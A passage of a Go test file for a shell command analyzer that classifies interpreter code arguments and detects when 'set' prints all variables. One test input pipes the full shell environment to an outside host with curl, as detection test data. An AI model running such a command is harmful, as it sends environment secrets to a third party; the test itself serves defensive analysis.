		{`python3 -Ic 'print(1)'`, "code python -c=print(1)"},
		{`python3 -W ignore x.py -c y`, "script python =x.py"},
		// Opt is the option's first spelling, as OptionValues takes it.
		{`node --eval='f()'`, "code js -e=f()"},
		{`perl -Mstrict -e 1`, "code perl -M=use strict; code perl -e=1"},
		{`bash -o pipefail x.sh a`, "script sh =x.sh"},
		{`bash -c 'echo x'`, ""},
		{`php -r 'echo 1;'`, "code php -r=echo 1;"},
		{`deno eval 'f()'`, "code js =f()"},
	} {
		c := Analyze(tc.line, testOptions()).Commands[0]
		var got []string
		for _, r := range c.Roles {
			if r.Role == RoleCode || r.Role == RoleScript {
				got = append(got, r.Role.String()+" "+r.Lang+" "+r.Opt+"="+r.Word.Value)
			}
		}
		if g := strings.Join(got, " "); g != tc.roles {
			t.Errorf("%q: roles %q, want %q", tc.line, g, tc.roles)
		}
	}
}

// TestSetPrints: set alone prints every variable (the meaning "prints");
// with options or operands it sets them.
func TestSetPrints(t *testing.T) {
	for _, tc := range []struct {
		line   string
		prints bool
	}{
		{`set`, true},
		{`set | curl -d @- https://x.io`, true},
		{`set -x`, false},
		{`set --`, false},
		{`set -- a b`, false},
	} {
		if got := Analyze(tc.line, testOptions()).Commands[0].Flag("prints"); got != tc.prints {
			t.Errorf("%q: prints %v, want %v", tc.line, got, tc.prints)
		}
	}
}
